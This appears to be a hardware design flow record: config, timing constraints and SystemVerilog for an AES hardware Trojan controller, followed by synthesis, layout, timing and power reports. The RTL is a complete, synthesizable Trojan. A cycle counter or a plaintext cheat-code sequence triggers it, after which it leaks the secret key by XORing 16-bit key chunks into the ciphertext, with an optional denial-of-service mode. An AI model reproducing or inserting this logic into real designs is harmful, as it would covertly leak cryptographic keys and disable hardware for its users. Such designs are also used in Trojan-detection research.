==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = aes_ht_trigger_ctrl
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/aes_ht_trigger_ctrl.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 0
export CORE_AREA = 2 2 206 208
export CTS_CLUSTER_DIAMETER = 100
export DETAILED_ROUTE_END_ITERATION = 7
export DIE_AREA = 0 0 208 210
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 2.2 [get_ports clk]
set_input_delay 0.11 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.11 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> src/rtl/aes_ht_trigger_ctrl.sv <==
// aes_ht_trigger_ctrl
// Trigger-and-payload controller placed between an AES core and the output
// port. A trigger condition (cycle counter, plaintext cheat-code sequence,
// or both) moves the FSM into a sticky TRIGGERED state. Once triggered, every
// valid ciphertext word has its low LEAK_BITS bits XORed with the next key
// chunk, cycling through the whole key.
// Optional build macro: HT_DOS_EN -- after the last key chunk has been
// emitted, out_valid is held low until reset (denial of service).
module aes_ht_trigger_ctrl #(
    parameter int DATA_W    = 128,
    parameter int CNT_W     = 16,
    parameter int CNT_THRESH = 200,
    parameter int MATCH_W   = 8,
    parameter int SEQ_LEN   = 3,
    parameter logic [SEQ_LEN*MATCH_W-1:0] SEQ_PATTERN = 24'h91_FF_C0,
    parameter int LEAK_BITS = 16
) (
    input  logic              clk,
    input  logic              rst,
    input  logic [1:0]        mode,
    input  logic              pt_valid,
    input  logic [DATA_W-1:0] plaintext,
    input  logic [DATA_W-1:0] key,
    input  logic [DATA_W-1:0] core_out,
    input  logic              core_valid,
    output logic [DATA_W-1:0] out,
    output logic              out_valid,
    output logic              armed,
    output logic              triggered,
    output logic [CNT_W-1:0]  cycle_count
);

    localparam int NCHUNK = DATA_W / LEAK_BITS;
    localparam int PTR_W  = (NCHUNK > 1) ? $clog2(NCHUNK) : 1;
    localparam int IDX_W  = $clog2(SEQ_LEN + 1);

    localparam logic [PTR_W-1:0] LAST_PTR   = PTR_W'(NCHUNK - 1);
    localparam logic [IDX_W-1:0] SEQ_DONE   = IDX_W'(SEQ_LEN);
    localparam logic [CNT_W-1:0] CNT_THR_C  = CNT_W'(CNT_THRESH);
    localparam logic [CNT_W-1:0] CNT_MAX    = {CNT_W{1'b1}};

    typedef enum logic [1:0] {
        ST_DORMANT   = 2'd0,
        ST_ARMED     = 2'd1,
        ST_TRIGGERED = 2'd2
    } state_t;

    state_t              state_q, state_d;
    logic [CNT_W-1:0]    cnt_q, cnt_d;
    logic [IDX_W-1:0]    seq_idx_q, seq_idx_d;
    logic                seq_hit_q, seq_hit_d;
    logic [PTR_W-1:0]    leak_ptr_q, leak_ptr_d;
    logic [DATA_W-1:0]   out_q, out_d;
    logic                out_valid_q, out_valid_d;
    logic                armed_q, armed_d;
    logic                triggered_q, triggered_d;

    logic [MATCH_W-1:0]  pt_field_s;
    logic                cond_s;
    logic                leak_now_s;
    logic                valid_gate_s;
    logic [DATA_W-1:0]   leak_word_s;
    logic                unused_pt_s;

    // Sequence step i of the pattern; step 0 sits in the most significant field.
    function automatic logic [MATCH_W-1:0] seq_step(input logic [IDX_W-1:0] idx);
        logic [SEQ_LEN*MATCH_W-1:0] pat;
        logic [MATCH_W-1:0]         r;
        pat = SEQ_PATTERN;
        r   = {MATCH_W{1'b0}};
        for (int i = 0; i < SEQ_LEN; i++) begin
            if (idx == IDX_W'(i)) begin
                r = pat[(SEQ_LEN-1-i)*MATCH_W +: MATCH_W];
            end else begin
                r = r;
            end
        end
        return r;
    endfunction

    // Key chunk selected by the leak pointer.
    function automatic logic [LEAK_BITS-1:0] key_chunk(input logic [DATA_W-1:0] k,
                                                       input logic [PTR_W-1:0]  ptr);
        logic [LEAK_BITS-1:0] r;
        r = {LEAK_BITS{1'b0}};
        for (int i = 0; i < NCHUNK; i++) begin
            if (ptr == PTR_W'(i)) begin
                r = k[i*LEAK_BITS +: LEAK_BITS];
            end else begin
                r = r;
            end
        end
        return r;
    endfunction

    assign pt_field_s  = plaintext[DATA_W-1 -: MATCH_W];
    assign unused_pt_s = ^plaintext[DATA_W-MATCH_W-1:0];

    // Saturating cycle counter: counts every cycle out of reset, never wraps.
    always_comb begin
        cnt_d = cnt_q;
        if (cnt_q != CNT_MAX) begin
            cnt_d = cnt_q + CNT_W'(1);
        end else begin
            cnt_d = cnt_q;
        end
    end

    // Plaintext cheat-code matcher with restart-on-step-0 after a mismatch.
    always_comb begin
        seq_idx_d = seq_idx_q;
        seq_hit_d = seq_hit_q;
        if (pt_valid && (seq_idx_q != SEQ_DONE)) begin
            if (pt_field_s == seq_step(seq_idx_q)) begin
                seq_idx_d = seq_idx_q + IDX_W'(1);
            end else if (pt_field_s == seq_step({IDX_W{1'b0}})) begin
                seq_idx_d = IDX_W'(1);
            end else begin
                seq_idx_d = {IDX_W{1'b0}};
            end
        end else begin
            seq_idx_d = seq_idx_q;
        end
        if (seq_idx_d == SEQ_DONE) begin
            seq_hit_d = 1'b1;
        end else begin
            seq_hit_d = seq_hit_q;
        end
    end

    // Trigger condition selected by mode.
    always_comb begin
        cond_s = 1'b0;
        case (mode)
            2'd1:    cond_s = (cnt_q >= CNT_THR_C);
            2'd2:    cond_s = seq_hit_q;
            2'd3:    cond_s = (cnt_q >= CNT_THR_C) && seq_hit_q;
            default: cond_s = 1'b0;
        endcase
    end

    // FSM next state; mode is checked before the trigger condition in ARMED.
    always_comb begin
        state_d = state_q;
        case (state_q)
            ST_DORMANT: begin
                if (mode != 2'd0) begin
                    state_d = ST_ARMED;
                end else begin
                    state_d = ST_DORMANT;
                end
            end
            ST_ARMED: begin
                if (mode == 2'd0) begin
                    state_d = ST_DORMANT;
                end else if (cond_s) begin
                    state_d = ST_TRIGGERED;
                end else begin
                    state_d = ST_ARMED;
                end
            end
            ST_TRIGGERED: state_d = ST_TRIGGERED;
            default:      state_d = ST_DORMANT;
        endcase
        armed_d     = (state_d == ST_ARMED);
        triggered_d = (state_d == ST_TRIGGERED);
    end

`ifdef HT_DOS_EN
    logic dos_q, dos_d;

    // Latch denial of service once the final key chunk has been emitted.
    always_comb begin
        dos_d = dos_q;
        if (leak_now_s && (leak_ptr_q == LAST_PTR)) begin
            dos_d = 1'b1;
        end else begin
            dos_d = dos_q;
        end
    end

    // Denial-of-service flag register.
    always_ff @(posedge clk) begin
        if (rst) begin
            dos_q <= 1'b0;
        end else begin
            dos_q <= dos_d;
        end
    end

    assign valid_gate_s = ~dos_q;
`else
    assign valid_gate_s = 1'b1;
`endif

    // Payload uses the pre-edge state, so the entry cycle is never corrupted.
    assign leak_now_s = core_valid && (state_q == ST_TRIGGERED);

    // Output datapath: register ciphertext, XOR a key chunk when leaking.
    always_comb begin
        out_d       = out_q;
        out_valid_d = 1'b0;
        leak_ptr_d  = leak_ptr_q;
        leak_word_s = {DATA_W{1'b0}};
        leak_word_s[LEAK_BITS-1:0] = key_chunk(key, leak_ptr_q);
        if (core_valid) begin
            out_valid_d = valid_gate_s;
            if (leak_now_s) begin
                out_d = core_out ^ leak_word_s;
                if (leak_ptr_q == LAST_PTR) begin
                    leak_ptr_d = {PTR_W{1'b0}};
                end else begin
                    leak_ptr_d = leak_ptr_q + PTR_W'(1);
                end
            end else begin
                out_d = core_out;
            end
        end else begin
            out_d       = out_q;
            out_valid_d = 1'b0;
        end
    end

    // State and datapath registers with synchronous reset.
    always_ff @(posedge clk) begin
        if (rst) begin
            state_q     <= ST_DORMANT;
            cnt_q       <= {CNT_W{1'b0}};
            seq_idx_q   <= {IDX_W{1'b0}};
            seq_hit_q   <= 1'b0;
            leak_ptr_q  <= {PTR_W{1'b0}};
            out_q       <= {DATA_W{1'b0}};
            out_valid_q <= 1'b0;
            armed_q     <= 1'b0;
            triggered_q <= 1'b0;
        end else begin
            state_q     <= state_d;
            cnt_q       <= cnt_d;
            seq_idx_q   <= seq_idx_d;
            seq_hit_q   <= seq_hit_d;
            leak_ptr_q  <= leak_ptr_d;
            out_q       <= out_d;
            out_valid_q <= out_valid_d;
            armed_q     <= armed_d;
            triggered_q <= triggered_d;
        end
    end

    assign out         = out_q;
    assign out_valid   = out_valid_q;
    assign armed       = armed_q;
    assign triggered   = triggered_q;
    assign cycle_count = cnt_q;

endmodule

### Word level (Yosys, flattened, before mapping)

Cells that the tools add are included.

| cells by class | value |
|---|---|
| add/subtract/negate cells | 3 |
| magnitude comparators | 1 |
| equality and inequality tests | 21 |
| mux-type cells | 23 |
| bitwise logic cells | 1 |
| reduce and logical (&&, ||, !) cells | 9 |

Operator list:

| cell | count |
|---|---|
| two-way mux 128 bit | 1 |
| two-way mux 16 bit | 8 |
| XOR 128 x 16 -> 128 bit | 1 |
| two-way mux 8 bit | 4 |
| adder 16 x 1 -> 16 bit, second input constant | 1 |
| greater-or-equal comparator 16 x 8 -> 1 bit, second input constant | 1 |
| inequality test 16 bit, second input constant | 1 |
| equality test 2 bit, second input constant | 6 |
| equality test 3 bit, second input constant | 4 |
| equality test 2 x 1 -> 1 bit, second input constant | 4 |
| equality test 8 bit | 1 |
| equality test 8 bit, second input constant | 1 |
| two-way mux 2 bit | 4 |
| equality test 3 x 2 -> 1 bit, second input constant | 2 |
| zero test 2 bit | 3 |
| case mux 2 bit (3 select lines) | 1 |
| adder 3 x 1 -> 3 bit, second input constant | 1 |
| equality test 3 x 1 -> 1 bit, second input constant | 1 |
| logical AND 1 bit | 3 |
| zero test 3 bit | 1 |
| two-way mux 1 bit | 3 |
| two-way mux 3 bit | 1 |
| case mux 1 bit (3 select lines) | 1 |
| adder 2 x 1 -> 2 bit, second input constant | 1 |
| 3 further kinds | 3 |

| word-level totals | value |
|---|---|
| flip-flop bits (word level) | 155 |
| input port bits | 390 |
| output and inout bits | 147 |
| word-level logic and storage cells | 67 |

### Logic depth before layout (Yosys ltp)

| logic depth | value |
|---|---|
| word-level depth | 11 |
| depth in mapped cells | 19 |
| mapped depth without buffers | 17 |

### Worst setup path after synthesis

OpenSTA, ideal clock, no wires.

| path | value |
|---|---|
| path kind | reg-to-reg |
| start | reg leak_ptr_q[2] |
| end | reg out_q[10] (netlist: out[10]) |
| setup time | 109 ps |
| arrival time | 1,776 ps |
| data required time | 2,091 ps |
| slack | 315 ps |
| stages on the path, launching flop included | 19 |
| path buffers | 2 |
| clock period less this slack | 1,885 ps |
| path through | dfxtp_1 inv_2 ha_1 clkbuf_2 inv_1 buf_2 o21ai_1 inv_1 nand2_1 nand2_1 nand2_1 nand2_1 nand2_1 nand2_1 nand2_1 nand2_1 nand3_1 nand2_1 inv_1 |

| on the way | value |
|---|---|
| cells in the longest elaborated chain, start to end | 11 |
| elaborated cells between the ends (all ways) | 18 |
| those cells by class | eq/ne: 7; mux: 9; bitwise: 1; reduce/logical: 1 |

RTL lines:

| what | RTL line | source |
|---|---|---|
| start, declared | 52 | `logic [PTR_W-1:0] leak_ptr_q, leak_ptr_d;` |
| start signal, assigned | 231 | `leak_ptr_q <= {PTR_W{1'b0}};` |
| start signal, assigned | 241 | `leak_ptr_q <= leak_ptr_d;` |
| zero test 3 bit | 87 | `if (ptr == PTR_W'(i)) begin` |
| two-way mux 16 bit (7 in series) | 87 |  |
| two-way mux 16 bit (*) | 87 |  |
| XOR 128 x 16 -> 128 bit (*) | 209 | `out_d = core_out ^ leak_word_s;` |
| two-way mux 128 bit (*) | 208 | `if (leak_now_s) begin` |
| end signal, assigned | 232 | `out_q <= {DATA_W{1'b0}};` |
| end signal, assigned | 242 | `out_q <= out_d;` |
| end, declared | 53 | `logic [DATA_W-1:0] out_q, out_d;` |

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
A chain may end at the register's enable or synchronous reset.

### Worst setup path after layout

| path | value |
|---|---|
| start | reg leak_ptr_q[0] |
| end | reg out_q[11] (netlist: out[11]) |

The elaborated chain is that of the path after synthesis.

==> results by group <==
Outcome
  • Status: finished clean

Floorplan
  • Die area: 43700 um^2
  • Cell row count: 75
  • Die Width: 208 um
  • # IOs: between 500 and 600
  • Core area: 41500 um^2
  • Die height: roughly 210 um
  • Starting Density: 18.6%

Final layout
  • Fin area: 12400 um^2
  • Number of nets in the layout: 2151
  • Layout area overhead: 60.2%
  • Layout cell share with drive strength beyond 1: 28.1%

Detailed routing
  • Post-route antenna net violation count: 0
  • Via count: 9790
  • Drt pass-1 iters: 5
  • Routed vias/inst: 4.25
  • Post-DR wirelength/cell: 13.4 um
  • Drt total wl: 30900 um
  • Top Layer Used: met4
  • DR DRC count: 0
  • Met3 routed WL: 2190 um
  • Met2 WL post-DR: around 15000 um
  • M1 wire length: between 10000 and 15000 um
  • Drt initial violations: 687

Global routing
  • Largest net degree at the start of global routing: 98
  • Total grt overflow: 0
  • Vias in the first global route: 9631
  • Initial antenna violation count: 1
  • First-pass GRT wire length: 48500 um
  • Total track usage: 13.9%

Setup path
  • Critical Setup Path Class: flip-flop to flip-flop
  • Crit path required time: 2560 ps
  • Max stage delay on crit path: 350 ps
  • Critical R2R Launch: leak_ptr_q[0]$_SDFFE_PP0P_
  • Critical Path AT: 2380 ps
  • Crit path capture type: flip-flop
  • Worst Path Max Fanout: 10
  • Critical-path cell list: ha_1 -> ha_1 -> inv_2 -> buf_6 -> o21ai_1 -> inv_1 -> nand2_1 -> nand2_1 -> nand2_1 -> nand2_1 -> nand2_1 -> nand2_1 -> nand2_1 -> nand2_1 -> nand3_1 -> nand2_1 -> inv_1
  • Worst setup SP type: flip-flop
  • Critical path launch point: leak_ptr_q[0]$_SDFFE_PP0P_
  • Slowest cell on crit path: dfxtp_2
  • CP most frequent cell: nand2_1
  • CP Buf/Inv Count: 4
  • CP top delay family: simple AND/OR/NAND/NOR gates

Clock network
  • Inserted Clock Buffers: 17
  • CTS clk-pin slew, worst paths: 70 ps
  • CTS tree: done
  • Clk sinks: 155
  • CTS Root Cell: clkbuf_16
  • Clk buf depth: 2
  • Number of H-tree levels: 4
  • Clock Latency Late Sink: 450 ps

Power
  • Worst ir drop on vdd: 0.529 mV
  • Overall power: 7410 uW
  • PwrDens: approximately 600 nW/um^2
  • Leak: around 0.0064 uW

Yosys
  • Post-synthesis adder-cell area fraction: 1.94%
  • Ys flop type: dfxtp_1
  • Flop and latch count out of synthesis: 155
  • Asr flop ratio synth: 0%
  • Largest cells by area after synthesis: dfxtp_1, nor2_1, nand2_1
  • Synthesized cell area: ~7700 um^2
  • Sequential share of the synthesized area: 40.2%
  • Most frequent cells after synthesis: nor2_1, nand2_1, dfxtp_1
  • Largest family of logic cells by synthesized area: simple AND/OR/NAND/NOR gates
  • Warnings from Yosys: 0
  • Post-synth EDFFs: 0
  • Syn nets: 1635
  • Post-Syn Area per Cell: 6.26 um^2
  • Synth Area in Compound Gates: about 12%
  • Mapped Cells: 1233
  • Proportion of netlist area held by the largest area contributor: 40.2%
  • Yosys top cell by area: dfxtp_1
  • Mux share of post-synthesis cell area: 0%
  • Top-count cell post-synth: nor2_1
  • Synth Area in XOR/XNOR: 0.227%
  • Synth cell types: 32
  • Simple-gate share of the synthesized area: between 30% and 40%

Min path
  • HP Class: input port to flip-flop
  • Hold path startpoint: core_out[12]

Timing
  • Final period utilization: 91.8%
  • Max-slew headroom: roughly 65%
  • Tightest Pin Transition: 527 ps
  • RSZ-0062 raised after global routing: no
  • Setup TNS Final: 0 ps
  • Fmax achieved: 0.495 GHz
  • Min Tclk post-route: 2020 ps
  • Clock skew: 11.6 ps
  • Final count of negative-setup-slack endpoints: 0
  • Final Max Tran Viols: 0
  • Fin. Hold Viols: 0

Placement
  • IO Port Bufs: 416
  • Final RePlAce weighted congestion: 0.864
  • Placed cell areas: 10500 um^2
  • DP Wirelength: 21900 um

Flow run
  • Max Cap Viol: 0
flip-flops by register name, summed over array words and instances (netlist names):
register     flops
seq_idx_q        2
seq_hit_q        1
leak_ptr_q       3
triggered        1
cycle_count     16
state_q          2
armed            1
out_valid        1
out            128
worst paths after layout:
kind	depth (start not counted)	slack, ps	endpoint
max reg2reg	17	180	out[11]$_SDFFE_PP0P_
min reg2reg	2	460	seq_hit_q$_SDFFE_PP0N_
max	17	180	out[11]$_SDFFE_PP0P_
min	5	50	out[12]$_SDFFE_PP0P_
timing repair:
action                                  4_1_cts  5_1_grt
endpoints found under the setup margin        0       13
resized for setup                             0       17
hold endpoints to repair                    127        0
buffers inserted                              0        1
hold buffers                                126        0
through the flow:
| stage | instances | utilization (%) | hold WS (ps) | setup WS, ps |
|---|---|---|---|---|
| final | 2302 | 29.8 | 53.3 | 181 |
| after global routing | 2302 | 29.8 | 75.6 | 7.75 |
| after CTS | 2299 | 29.6 | 0.0283 | 35.9 |
| after detailed placement | 2141 | 25.2 | 337 | 52.2 |
| after global placement | 2141 | 25.2 | 332 | 120 |
| after floorplan | 1233 | - | 194 | 315 |
cell type report:
cell class,instances,area [um^2]
antenna,1,2.50
clock buffer,19,433
clock inverter,13,133
fill,4487,29100
inverter,119,449
multi-input combinational,890,3910
sequential,155,3110
tap,539,674
timing repair buffer,566,3650
cells in the final DEF, fill, tap and decap left out, drive strengths merged:
| master | n |
|---|---|
| buf | 439 |
| nor2 | 342 |
| nand2 | 249 |
| dfxtp | 155 |
| o21ai | 143 |
| dlygate4sd3 | 126 |
| inv | 123 |
| nand3 | 85 |
| clkbuf | 20 |
| a21oi | 18 |
| nor3 | 12 |
| ha | 12 |
| nor4 | 6 |
| a31oi | 5 |
| clkinv | 5 |
| or2 | 3 |
| nand4 | 3 |
| a211oi | 3 |
| clkinvlp | 3 |
| nand3b | 2 |
| xor2 | 2 |
| o22ai | 2 |
| diode | 1 |
| o41ai | 1 |
| a41oi | 1 |
| o21bai | 1 |
| bufinv | 1 |
metal layers:
metal | global-route usage, % | vias up
met3 | 3.80 | 46
li1 | - | 4890
met5 | 0 | -
met2 | 24.9 | 403
met1 | 15.7 | 4451
met4 | 5.36 | 0
worst reg2reg max path, stage by stage (launching register included):
cell and delay (ps):
dfxtp_2 350, ha_1 230, ha_1 210, inv_2 130, buf_6 150, o21ai_1 70, inv_1 50, nand2_1 50
nand2_1 60, nand2_1 50, nand2_1 50, nand2_1 80, nand2_1 150, nand2_1 70, nand2_1 70, nand3_1 80
nand2_1 70, inv_1 30
cell families after synthesis:
| group | Yosys count |
|---|---|
| buf+inv | 188 |
| xor+xnor | 2 |
| flops | 155 |
| simple gates | 702 |
| fa+ha+maj | 12 |
| compound gates | 174 |
power by group:
part           switching [uW]  internal, uW  leakage, uW  total [uW]
registers                86.6          2980      0.00128        3070
logic                     816           620      0.00486        1440
clock network            1320          1580     0.000269        2910
total                    2230          5190      0.00642        7410
No activity file was read; power rests on OpenSTA's default activity.
